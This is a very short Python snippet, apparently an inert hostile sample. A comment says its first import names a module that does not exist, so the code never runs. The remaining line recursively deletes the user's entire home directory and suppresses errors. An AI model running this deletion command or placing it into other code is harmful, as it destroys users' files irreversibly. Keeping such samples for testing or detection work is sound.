import inert_sample  # there is no such module: nothing below ever runs
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
